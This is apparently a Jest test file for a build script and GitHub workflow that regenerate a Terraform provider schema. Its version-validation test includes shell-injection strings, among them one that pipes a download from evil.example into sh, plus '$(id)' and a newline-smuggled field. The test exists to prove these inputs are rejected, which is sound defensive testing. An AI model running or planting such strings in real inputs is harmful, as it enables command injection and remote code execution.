import { readFile } from "node:fs/promises";
import { describe, expect, it } from "@jest/globals";
import { parse } from "yaml";
import { readManifest, regenerationFor } from "../../../../scripts/build-provider-schema.js";

const WORKFLOW = ".github/workflows/provider-schema.yml";

describe("scheduled schema regeneration", () => {
  it("asks for a rebuild only when the registry's newest release is not bundled", async () => {
    const manifest = await readManifest();
    const six = manifest.lines.find((l) => l.line === "6")?.source.providerVersion ?? "";
    expect(regenerationFor(manifest, six)).toBeNull();
    expect(regenerationFor(manifest, "6.0.0")).toBeNull();
    expect(regenerationFor(manifest, "6.99.0")).toEqual({ command: "line", version: "6.99.0" });
    expect(regenerationFor(manifest, "7.0.0")).toEqual({ command: "line", version: "7.0.0" });
    expect(regenerationFor(manifest, "5.101.0")).toEqual({ command: "base", version: "5.101.0" });
  });

  it("refuses a version that is not a plain release before it reaches the workflow's shell", async () => {
    const manifest = await readManifest();
    for (const evil of ['6.0.0"; curl evil.example | sh; "', "6.0.0\ncommand=base", "$(id)", "", "6.0.0-beta1"])
      expect(() => regenerationFor(manifest, evil)).toThrow(/not a release version/);
  });

  it("runs weekly and by hand, regenerates with the repository's script, and opens a pull request", async () => {
    const workflow = parse(await readFile(WORKFLOW, "utf8")) as {
      on: { schedule: { cron: string }[]; workflow_dispatch: unknown };
      permissions: Record<string, string>;
      jobs: Record<string, { steps: { run?: string; env?: Record<string, string>; uses?: string }[] }>;
    };
    expect(workflow.on.schedule[0]?.cron).toMatch(/^\S+ \S+ \* \* \S+$/);
    expect(workflow.permissions).toEqual({ contents: "write", "pull-requests": "write" });
    const steps = Object.values(workflow.jobs).flatMap((j) => j.steps);
    const runs = steps.map((s) => s.run ?? "").join("\n");
    expect(runs).toContain("scripts/build-provider-schema.ts needs --latest");
    expect(runs).toContain('npm run schema:build -- "$COMMAND" --terraform --version "$VERSION"');
    expect(runs).toContain("gh pr create");
    // The constraint table is re-read from the same release's source, never by CI.
    expect(runs).toContain('npm run schema:constraints -- --dir "$RUNNER_TEMP/terraform-provider-aws" --version "$VERSION"');
    expect(steps.some((s) => s.uses?.startsWith("hashicorp/setup-terraform@"))).toBe(true);
    // Expressions reach scripts only through env, never spliced into the shell text.
    expect(runs).not.toContain("${{");
  });
});
